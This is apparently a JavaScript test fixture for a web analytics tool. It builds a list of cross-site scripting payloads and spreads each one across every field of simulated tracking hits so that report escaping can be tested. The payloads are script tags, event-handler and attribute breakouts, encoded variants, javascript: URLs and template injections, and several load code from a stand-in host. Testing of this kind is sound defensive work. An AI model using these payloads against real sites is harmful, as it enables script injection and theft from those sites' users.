// Texts that would run or leave marks if a page took them for markup, and the hits that carry them everywhere.

/** Elements that must never appear in a page carry this attribute. */
export const mark = 'data-struck';
const act = 'alert(1)';

const elements = [
  `<script ${mark}>${act}</script>`,
  `<ScRiPt ${mark}>${act}</sCrIpT>`,
  `<script ${mark} src=https://struck.example/x.js></script>`,
  `<script ${mark}>/*<script>*/${act}</script>`,
  `<img ${mark} src=x onerror=${act}>`,
  `<img ${mark} src="https://struck.example/pixel.png">`,
  `<img/${mark}/src/onerror=${act}//`,
  `<img ${mark} src=x:x onerror="&#97;lert(1)">`,
  `<img ${mark} srcset=x onerror=${act}>`,
  `<svg ${mark} onload=${act}>`,
  `<svg ${mark}><script>${act}</script></svg>`,
  `<svg ${mark}><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg ${mark}><a href="javascript:${act}"><text y=20>x</text></a></svg>`,
  `<svg ${mark}><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<math ${mark}><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  `<math ${mark}><maction actiontype="statusline" href="javascript:${act}">x</maction></math>`,
  `<iframe ${mark} src="javascript:${act}"></iframe>`,
  `<iframe ${mark} srcdoc="<script>${act}</script>"></iframe>`,
  `<object ${mark} data="javascript:${act}"></object>`,
  `<embed ${mark} src="javascript:${act}">`,
  `<body ${mark} onload=${act}>`,
  `<details ${mark} open ontoggle=${act}>`,
  `<video ${mark}><source onerror=${act}></video>`,
  `<audio ${mark} src=x onerror=${act}>`,
  `<input ${mark} autofocus onfocus=${act}>`,
  `<select ${mark} autofocus onfocus=${act}>`,
  `<textarea ${mark} autofocus onfocus=${act}>`,
  `<marquee ${mark} onstart=${act}>x</marquee>`,
  `<form ${mark} action="javascript:${act}"><input type=submit autofocus>`,
  `<button ${mark} formaction="javascript:${act}">x</button>`,
  `<a ${mark} href="javascript:${act}">x</a>`,
  `<a ${mark} href="data:text/html,<script>${act}</script>">x</a>`,
  `<base ${mark} href="https://struck.example/">`,
  `<meta ${mark} http-equiv=refresh content="0;url=https://struck.example/">`,
  `<link ${mark} rel=stylesheet href="https://struck.example/x.css">`,
  `<style ${mark}>@import "https://struck.example/x.css";</style>`,
  `<div ${mark} style="background:url(https://struck.example/x)">x</div>`,
  `<template ${mark}><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img ${mark} src=x onerror=${act}>">`,
  `<style><img ${mark} src="</style><img ${mark} src=x onerror=${act}>">`,
  `<portal ${mark} src="https://struck.example/">`,
  `<dialog ${mark} open>x</dialog>`,
  `<custom-part ${mark} onpointerenter=${act} style=position:fixed;inset:0>x</custom-part>`,
];

const escapes = [
  `"><img ${mark} src=x onerror=${act}>`,
  `'><img ${mark} src=x onerror=${act}>`,
  `" ${mark} onmouseover=${act} x="`,
  `' ${mark} onfocus=${act} autofocus x='`,
  `\` ${mark} onmouseover=${act}`,
  `</title><script ${mark}>${act}</script>`,
  `</textarea><script ${mark}>${act}</script>`,
  `</script><script ${mark}>${act}</script>`,
  `--><script ${mark}>${act}</script>`,
  `]]><script ${mark}>${act}</script>`,
  `&lt;img ${mark} src=x onerror=${act}&gt;`,
  `&#60;img ${mark} src=x onerror=${act}&#62;`,
  `%3Cimg ${mark} src=x onerror=${act}%3E`,
  `%253Cimg ${mark} src=x onerror=${act}%253E`,
  `\\u003cimg ${mark} src=x onerror=${act}\\u003e`,
  `＜img ${mark} src=x onerror=${act}＞`,
  `<\u0000img ${mark} src=x onerror=${act}>`,
];

const expressions = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  ` javascript://x/%0a${act}`,
  `data:text/html,<script ${mark}>${act}</script>`,
  `vbscript:${act}`,
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '__proto__',
  'constructor',
  `=HYPERLINK("javascript:${act}")`,
];

export const payloads = [...elements, ...escapes, ...expressions];

/** One visit for each payload: it stands in every field of a hit that reports show. */
export function hostileHits(siteUrl) {
  return payloads.flatMap((text, number) => {
    const quoted = encodeURIComponent(text);
    const visit = { idsite: '1', rec: '1', cid: (number + 1).toString(16).padStart(16, '0'), uid: text, urlref: `https://r${number}.example/${quoted}?q=${quoted}` };
    const other = { ...visit, uid: `other ${text}`, cid: (number + 4097).toString(16).padStart(16, '0') };
    return [
      { ...visit, url: `${siteUrl}/${quoted}?x=${quoted}`, action_name: text },
      { ...visit, url: `${siteUrl}/${text}`, action_name: `a / ${text} / c` },
      { ...visit, url: `${siteUrl}/search`, action_name: text, search: text, search_cat: text, search_count: '2' },
      { ...visit, url: `${siteUrl}/event`, e_c: text, e_a: text, e_n: text, e_v: '1' },
      { ...visit, url: `${siteUrl}/`, download: `${siteUrl}/${quoted}.zip` },
      { ...visit, url: `${siteUrl}/`, link: `https://out.example/${quoted}` },
      { ...visit, url: `${siteUrl}/`, link: text },
      { ...other, url: `${siteUrl}/?utm_campaign=${quoted}&utm_term=${quoted}&utm_source=${quoted}`, action_name: text, lang: text, res: text },
      { ...other, cid: (number + 8193).toString(16).padStart(16, '0'), url: text, action_name: text, urlref: `https://www.google.com/search?q=${quoted}` },
      { ...other, cid: (number + 12289).toString(16).padStart(16, '0'), url: `${siteUrl}/`, action_name: text, urlref: text },
    ];
  });
}
